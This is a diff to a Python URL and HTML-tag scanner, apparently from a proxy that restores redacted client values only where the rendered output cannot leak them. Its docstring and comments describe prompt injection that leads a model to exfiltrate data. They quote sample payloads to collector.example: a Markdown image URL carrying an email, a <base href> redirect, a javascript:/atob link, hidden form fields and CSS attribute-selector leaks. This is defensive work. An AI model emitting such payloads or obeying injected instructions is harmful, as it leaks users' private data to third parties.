@@ -1,4 +1,5 @@
-"""Where a restore must not write the client's values: inside a URL with a network scheme (issue 12, atk9 A-L2).
+"""Where a restore must not write the client's values: inside a URL with a network scheme (issue 12, atk9 A-L2), a
+relative URL or an HTML tag (atk12 A H1, M1, M2).
 
 A model told by an injected instruction to write `![s](https://collector.example/p.png?u=<EMAIL_ADDRESS_1>)` would
 get the client's own renderer to fetch the URL with the real address in it, once restore filled it in. So a
@@ -26,13 +27,24 @@ references decoded (`&#104;ttps`, `htt&#112;s`, `ht&Tab;tps`), Markdown backslas
 `/\\t/host`); where the URL ends is read on the text as written (the body rules above).
 
 `mailto:` and `tel:` are no network schemes (nothing is fetched; the address is the client's own): restored.
+`javascript:` and `vbscript:` start a URL as a network scheme does (atk12 A M2: `[Verify](javascript:open(atob(...)+
+'<EMAIL_ADDRESS_1>'))` sends the value wherever its encoded host says).
 A URL the client itself sent is restored (`Vault.note_urls`): a placeholder whose URL, from its start through the
 placeholder, is the start of a URL of the client's redacted request, as the provider saw it.
-A relative URL (`/p.png?u=...`) goes to the client's own host: restored, unless the answer holds a `<base>` tag or an
-`xml:base` attribute (atk11 A-L3: `<base href="https://collector.example/">` sends every relative URL there): then
-the value of a URL attribute (`src`, `href`, `srcset`, `action`...), of CSS `url(` and of a Markdown link target or
-reference definition is a URL too, whatever it starts with but a scheme (`mailto:`, `tel:`). A stream's or the
-answer's earlier texts tell it with `BASE` at the start of their context (`url_context`, `url_befores`).
+
+A relative URL (`p.png?u=...`) is a URL too, with or without a `<base>` in the answer (atk12 A H1, M1): a `<base>`
+tag or an `xml:base` attribute anywhere in the page the client renders (later in a stream, which cannot take back
+what it sent; in another block, a tool call's arguments or output, another choice; an earlier turn) sends every
+relative URL to its host. The relative URLs read here are a Markdown link target or a reference definition's, with
+its title (a `title` attribute), and an image's alt text (`![...]`, an `alt` attribute); HTML's are in tags:
+- an HTML start tag (`_tag`: from `<name` to the `>` that ends it outside a quoted value; a placeholder is no tag)
+  is kept whole, every attribute: a URL attribute's relative value (`src`, `href`, `srcset`, `action`, CSS
+  `url(` in `style`...), a form field's `value` (atk12 A M2: `<input type="hidden" value=...>` in a form whose
+  `action` is a third party, one click away; `<button formaction value>`, `<input form=...>`), and any other
+  attribute (`alt`, `title`, `data-*`), which a model's `<style>` reads with attribute selectors
+  (`[value^="j"]{background:url(https://collector.example/j)}`, no click); and so is the content of a `<textarea>`
+  or an `<option>` (a form submits it), a `<style>` or a `<script>` (`kept_spans`: tags are never a client URL).
+  A stream keeps an open tag in its context (`url_context`: a long one as its name, `MARK` and an open quote).
 
 The texts of one answer are read in order for URLs (atk11 A-H3: a URL opened in one Anthropic text block, Responses
 part or chat content part and going on in the next, which the SDKs join): each text is read after the context of
@@ -50,15 +62,15 @@ _PLACEHOLDER = r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>"  # `proxy.guard.vault.P
 # After a JSON escape (`\n`, `\t`...) a scheme or `www.` is at a word's start, though a letter precedes it.
 _AFTER_ESCAPE = r"(?<=\\[nrtbf])"
 START = re.compile(  # the lookahead first: a position that starts none is passed over fast
-    rf"(?i)(?=[hfw/\\&\"])(?:(?P<key>\\?\"[\w-]{{0,40}}?(?:url|uri|href|src|srcset)\\?\"\s{{0,8}}:\s{{0,8}}"
+    rf"(?i)(?=[hfwjv/\\&\"])(?:(?P<key>\\?\"[\w-]{{0,40}}?(?:url|uri|href|src|srcset)\\?\"\s{{0,8}}:\s{{0,8}}"
     rf"(?P<esc>\\?)\")"
-    rf"|(?:(?<![a-z0-9+.\-])|{_AFTER_ESCAPE})(?:https?|ftps?|wss?)"
+    rf"|(?:(?<![a-z0-9+.\-])|{_AFTER_ESCAPE})(?:https?|ftps?|wss?|javascript|vbscript)"
     rf"(?::|&#0*58;?|&#x0*3a;?|&colon;|\\u003a)"
     rf"|(?:(?<![\w:/\\])|{_AFTER_ESCAPE})(?:[/\\]|&#0*47;?|&#x0*2f;?|&sol;|\\u002f){{2,}}(?=[^\s/\\])"
     rf"|(?:(?<![\w.\-])|{_AFTER_ESCAPE})www\.(?=[^\s.]))")
 # The same starts read on the view (`_view`: references and escapes decoded, tab/LF/CR removed) when it differs.
 _VIEW_START = re.compile(
-    r"(?i)(?=[hfw/\\])(?:(?<![a-z0-9+.\-])(?:https?|ftps?|wss?):"
+    r"(?i)(?=[hfwjv/\\])(?:(?<![a-z0-9+.\-])(?:https?|ftps?|wss?|javascript|vbscript):"
     r"|(?<![\w:/\\])[/\\]{2,}(?=[^\s/\\])"
     r"|(?<![\w.\-])www\.(?=[^\s.]))")
 # Any other scheme (2 to 32 letters, digits, `+.-`, a letter first) with `//` and a host, `file:` with backslashes
@@ -70,15 +82,24 @@ _SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0
 _TOKEN = re.compile(r"&(?:#[0-9]{1,32}|#[xX][0-9a-fA-F]{1,32}|[A-Za-z][A-Za-z0-9]{1,31});?"
                     r"|\\u[0-9a-fA-F]{4}|\\[!-/:-@\[-`{-~tnr]|[\t\n\r]")
 _REMOVED = str.maketrans("", "", "\t\n\r")
-# A `<base>` tag or an `xml:base` attribute: relative URLs resolve against a host the answer names (atk11 A-L3).
-_BASE_TAG = re.compile(r"(?i)<base[\s/>]|\bxml:base\s*=")
-BASE = "\x01"  # at the start of a context (`url_context`): the text before held a `<base>` tag
-# Where a relative URL starts once a base is set: a URL attribute's value, CSS `url(`, a Markdown link target or a
-# reference definition's (the quote or `<` that opens it in a group: its body).
-_RELATIVE = re.compile(
-    r"(?im)(?:\b(?:src|href|srcset|imagesrcset|action|formaction|poster|background|data|cite|ping|lowsrc|dynsrc"
-    r"|longdesc|codebase|manifest|icon|base)\s*=\s*(?P<q>\\?[\"'])?"
-    r"|\burl\(\s*(?P<c>\\?[\"'])?|\]\(\s*(?P<a><)?|^[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*(?P<r><)?)")
+# Where a relative URL starts: a Markdown link target or a reference definition's (the `<` that opens it in a
+# group: its body); an image's alt text (`![`: an `alt` attribute).
+_NOT_PLACEHOLDER = rf"(?!{_PLACEHOLDER[1:]})"  # after a `<`: a placeholder's opens nothing
+_RELATIVE = re.compile(rf"(?m)(?:\]\(\s*(?P<a><{_NOT_PLACEHOLDER})?"
+                       rf"|^[ ]{{0,3}}\[[^\]\n]{{1,999}}\]:[ \t]*(?P<r><{_NOT_PLACEHOLDER})?|(?P<alt>!\[))")
+# A Markdown target's title after it (`"..."`, `'...'`, `(...)`: a `title` attribute), open to the text's end too.
+_TITLE = re.compile(r"""(?=[ \t\n])[ \t]*\n?[ \t]*(?:"[^"\n]*"?|'[^'\n]*'?|\([^)\n]*\)?)""")
+_ALT = re.compile(rf"(?:{_PLACEHOLDER}|[^\]\n]|\n(?![ \t]*\n))*")  # to its `]` (a blank line ends the paragraph)
+# An HTML start tag (`<img`, `<input`, `\\u003cform` in a JSON text; not a placeholder): its name; then its parts
+# (`_tag`): a placeholder (its `>` ends no tag), an attribute value's opening quote after `=`, or other characters.
+_TAG_START = re.compile(r"(?:<|\\u003[cC])(?![A-Z][A-Z0-9_]*_\d+>)([A-Za-z][\w.-]*(?::[A-Za-z][\w.-]*)?)"
+                        r"(?=[\s/>]|\\[ntrf/]|\Z)", re.A)
+_TAG_PART = re.compile(rf"{_PLACEHOLDER}|=(?:\s|\\[ntrf])*(\\?[\"'])|[^>=<]+|[^>]")
+# Elements whose content a form submits or a renderer runs as CSS or script: their content is the tag's too, to the
+# end tag (`<option>`: to the next tag).
+_RAW_ENDS = {name: re.compile(rf"(?i)(?:<|\\u003c)/{name}(?=[\s/>]|\\[ntrf/]|\Z)")
+             for name in ("textarea", "style", "script")}
+_OPTION_BODY = re.compile(rf"(?:{_PLACEHOLDER}|(?!(?:<|\\u003[cC])[A-Za-z/!?])[\s\S])*")
 _SCHEMED = re.compile(r"(?i)[a-z][a-z0-9+.\-]*:")
 _QUOTED = re.compile(r"(?i)(?:=|\burl\()\s*\\?([\"'])\Z")  # read with the whitespace after it taken off
 _BODY_DEFAULT = re.compile(rf"(?:{_PLACEHOLDER}|[^\s\"<>`])*")
@@ -95,46 +116,130 @@ Before = str | tuple[str, ...]
 MARK = "\x00"  # stands for the part of a long URL `url_context` dropped (never in a noted client URL)
 
 
-def url_spans(text: str) -> list[tuple[int, int, bool]]:
-    """The URLs with a network scheme in `text`: (start, end, open), `open` when the URL runs to the text's end
-    (it may go on in what follows)."""
-    return [(start, end, end == len(text)) for start, _, end in _spans(text)]
+def url_spans(text: str, relative: bool = True) -> list[tuple[int, int, bool]]:
+    """The URLs (network or relative) in `text`: (start, end, open), `open` when the URL runs to the text's end
+    (it may go on in what follows); `relative`: relative URLs too. HTML tags are not read (`kept_spans`)."""
+    return [(start, end, end == len(text)) for start, _, end, _ in _spans(text, tags=False, relative=relative)]
 
 
-def _spans(text: str) -> list[tuple[int, int, int]]:
-    """(start, end of its scheme or opener, end) of each URL of `text` (`url_spans`)."""
-    out: list[tuple[int, int, int]] = []
+def kept_spans(text: str) -> list[tuple[int, int, bool]]:
+    """Where restore writes no value (`proxy.guard.vault.Vault.restore`): the URLs of `url_spans` and the HTML start
+    tags with the content of `<textarea>`, `<option>`, `<style>` and `<script>`: (start, end, tag)."""
+    return [(start, end, bool(resume)) for start, _, end, resume in _spans(text)]
+
+
+def _spans(text: str, tags: bool = True, relative: bool = True) -> list[tuple[int, int, int, str]]:
+    """(start, end of its scheme or opener, end, resume) of each URL of `text` (`url_spans`) and, with `tags`, of
+    each HTML start tag (`_tag`; `resume`: what `url_context` keeps of it when it is open and long; "" for a URL)."""
+    out: list[tuple[int, int, int, str]] = []
     view, origin = _view(text)
-    based = BASE in text or _BASE_TAG.search(text) is not None
     pos = 0
+    # Each kind's next start, searched again only once `pos` passed it (a text of many tags and no URL: linear).
+    m: re.Match[str] | None = None
+    v: tuple[int, int] | None = None
+    g: tuple[int, int] | None = None
+    r: tuple[int, int, re.Pattern[str]] | None = None
+    t: re.Match[str] | None = None
+    seen = {"m": -1, "v": -1, "g": -1, "r": -1, "t": -1}  # where each was found (-1: to search; len+1: none)
+    none = len(text) + 1
     while True:
-        # The next start on the text, on the view (mapped back onto the text), of another scheme, of a relative URL
-        # (a base set): the first wins (at the same place: the first of these).
+        # The next start on the text, on the view (mapped back onto the text), of another scheme, of a relative URL,
+        # of a tag: the first wins (at the same place: the first of these).
         found: list[tuple[int, int, int, re.Pattern[str] | None]] = []  # (start, rank, end of the start, body)
-        m = START.search(text, pos)
+        if seen["m"] < pos:
+            m = START.search(text, pos)
+            seen["m"] = m.start() if m is not None else none
         if m is not None and m.group("key") is not None:  # a JSON URL field (`"url": "...`, `url_key`): its string
             found.append((m.end(), 0, m.end(), _BODY_QUOTED['"'] if m.group("esc") else _BODY_JSON))
         elif m is not None:
             found.append((m.start(), 0, m.end(), None))
         if origin:
-            at = bisect.bisect_left(origin, pos)
-            v = _first(_VIEW_START.search(view, at), _schemed(view, at))
+            if seen["v"] < pos:
+                at = bisect.bisect_left(origin, pos)
+                v = _first(_VIEW_START.search(view, at), _schemed(view, at))
+                seen["v"] = origin[v[0]] if v is not None else none
             if v is not None:
                 found.append((origin[v[0]], 1, origin[v[1]], None))
-        g = _schemed(text, pos)
+        if seen["g"] < pos:
+            g = _schemed(text, pos)
+            seen["g"] = g[0] if g is not None else none
         if g is not None:
             found.append((g[0], 2, g[1], None))
-        r = _relative(text, pos) if based else None
+        if relative and seen["r"] < pos:
+            r = _relative(text, pos)
+            seen["r"] = r[0] if r is not None else none
         if r is not None:
             found.append((r[0], 3, r[1], r[2]))
+        if tags and seen["t"] < pos:
+            t = _TAG_START.search(text, pos)
+            seen["t"] = t.start() if t is not None else none
+        if t is not None:
+            found.append((t.start(), 4, t.end(), None))
         if not found:
             return out
-        start, _, head, body = min(found, key=lambda f: (f[0], f[1]))
+        start, rank, head, body = min(found, key=lambda f: (f[0], f[1]))
+        if rank == 4 and t is not None:
+            end, resume = _tag(text, t)
+            out.append((start, head, end, resume))
+            pos = max(end, head)
+            continue
         if body is None:
             body = _body(text, start)
         end = body.match(text, head).end()  # type: ignore[union-attr]  # `*`: always matches
-        out.append((start, head, end))
+        if body is not _ALT and (rank == 3 or _md_target(text, start)):
+            after = end + 1 if text.startswith(">", end) and body is _BODY_ANGLED else end
+            title = _TITLE.match(text, after)
+            if title is not None and (title.end() == len(text) or text[title.end()] in ")\n"):
+                end = title.end()  # a Markdown title before the target's `)` or the definition's line end
+        out.append((start, head, end, ""))
         pos = max(end, head, start + 1)
+
+
+_REFERENCE = re.compile(r"[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*<?")
+
+
+def _md_target(text: str, start: int) -> bool:
+    """Whether the URL at `start` is a Markdown link target (`](`) or a reference definition's (its title follows)."""
+    if text[max(0, start - 8):start].rstrip(" \t<").endswith("]("):
+        return True
+    line = text.rfind("\n", 0, start) + 1
+    return start - line <= 1010 and _REFERENCE.fullmatch(text, line, start) is not None
+
+
+def _tag(text: str, m: re.Match[str]) -> tuple[int, str]:
+    """The end of the HTML start tag `m` begins (its `>`, or the text's end: open) with, for a `<textarea>`, `<style>`
+    or `<script>`, its content to the end tag, and for an `<option>` to the next tag; and what `url_context` keeps of
+    it when it is open and long: its name, `MARK`, and the quote of a value open at the end (`<img \\x00="`; never
+    empty: `kept_spans` tells a tag by it).
+    The tag ends where HTML ends it: at a `>` outside a quoted value (a quote opens one right after `=`); a
+    placeholder is one part (`value=<EMAIL_ADDRESS_1>`: the value the client gets has no `>`)."""
+    name = m.group(1)
+    pos, n = m.end(), len(text)
+    while pos < n:
+        if text[pos] == ">":
+            break
+        part = _TAG_PART.match(text, pos)
+        assert part is not None  # `[^>]`: any character but the `>` handled above
+        pos = part.end()
+        quote = part.group(1)
+        if quote is not None:
+            close = text.find(quote[-1], pos)
+            if close < 0:
+                return n, f"<{name} {MARK}={quote}"
+            pos = close + 1
+    else:
+        return n, f"<{name} {MARK}"
+    pos += 1  # the `>`
+    lower = name.lower()
+    raw = _RAW_ENDS.get(lower)
+    if raw is not None:
+        end = raw.search(text, pos)
+        return end.start() if end is not None else n, f"<{name}>{MARK}"
+    if lower == "option":
+        content = _OPTION_BODY.match(text, pos)
+        assert content is not None  # `*`: always matches
+        return content.end(), f"<{name}>{MARK}"
+    return pos, f"<{name} {MARK}"
 
 
 def _first(m: re.Match[str] | None, other: tuple[int, int] | None) -> tuple[int, int] | None:
@@ -171,16 +276,16 @@ def _body(text: str, start: int) -> re.Pattern[str]:
 
 
 def _relative(text: str, pos: int) -> tuple[int, int, re.Pattern[str]] | None:
-    """The next relative URL from `pos` once a base is set (`_RELATIVE`): (start, start, its body); a value that
-    starts with a scheme is none (`mailto:`, `tel:`; a network one is read as such)."""
+    """The next relative URL from `pos` (`_RELATIVE`): (start, start, its body); a target that starts with a scheme
+    is none (`mailto:`, `tel:`; a network one or `javascript:` is read as such); an image's alt text is one."""
     for m in _RELATIVE.finditer(text, pos):
         at = m.end()
+        if m.group("alt") is not None:
+            return at, at, _ALT
         if _SCHEMED.match(text, at) is not None:
             continue
-        quote = m.group("q") or m.group("c")
-        body = _BODY_QUOTED[quote[-1]] if quote else _BODY_ANGLED if m.group("a") or m.group("r") \
-            else _BODY_DEFAULT
-        if quote is None and at < len(text) and text[at] in "\"'>)":
+        body = _BODY_ANGLED if m.group("a") or m.group("r") else _BODY_DEFAULT
+        if at < len(text) and text[at] in "\"'>)":
             continue  # an empty target
         return at, at, body
     return None
@@ -243,27 +348,27 @@ def _fold(text: str) -> str:
 
 
 def url_context(text: str) -> str:
-    """What a stream keeps of released `text` to read what follows it: from the opener of a URL still open at its
-    end (a long one: its start, then `MARK`), else its last characters (a URL's start or opener cut in two); after
-    `BASE` when `text` held a `<base>` tag (or began with `BASE`)."""
-    based = BASE in text or _BASE_TAG.search(text) is not None
-    mark = BASE if based else ""
+    """What a stream keeps of released `text` to read what follows it: from the opener of a URL or the `<` of a tag
+    still open at its end (a long one: its start, then `MARK`; a tag's name, `MARK` and an open quote), else its last
+    characters (a URL's start or opener cut in two)."""
     spans = _spans(text)
     if spans and spans[-1][2] == len(text):
-        start, scheme, _ = spans[-1]
+        start, scheme, _, resume = spans[-1]
         head = max(0, start - _CONTEXT_TAIL)
+        if resume:  # a tag: its runs folded (the quotes and `>` that end it are kept), or its name and state
+            kept = _fold(text[head:])
+            return kept if len(kept) <= _CONTEXT_MAX else resume
         if len(text) - head <= _CONTEXT_MAX:
-            return mark + text[head:].replace(BASE, "")
-        return mark + _fold(text[head:max(scheme, start + 1)]).replace(BASE, "") + MARK
-    return mark + _fold(text)[-_TAIL_KEEP:].replace(BASE, "")
+            return text[head:]
+        return _fold(text[head:max(scheme, start + 1)]) + MARK
+    return _fold(text)[-_TAIL_KEEP:]
 
 
 def url_befores(texts: Sequence[str]) -> list[str]:
     """The context each of an answer's `texts` is read after for URLs (`url_context` of the ones before it, joined
-    as the client's SDK joins them: atk11 A-H3); `BASE` in each when one of them holds a `<base>` tag."""
-    based = any(BASE in t or _BASE_TAG.search(t) is not None for t in texts)
+    as the client's SDK joins them: atk11 A-H3)."""
     out: list[str] = []
-    ctx = BASE if based else ""
+    ctx = ""
     for text in texts:
         out.append(ctx)
         ctx = url_context(ctx + text)
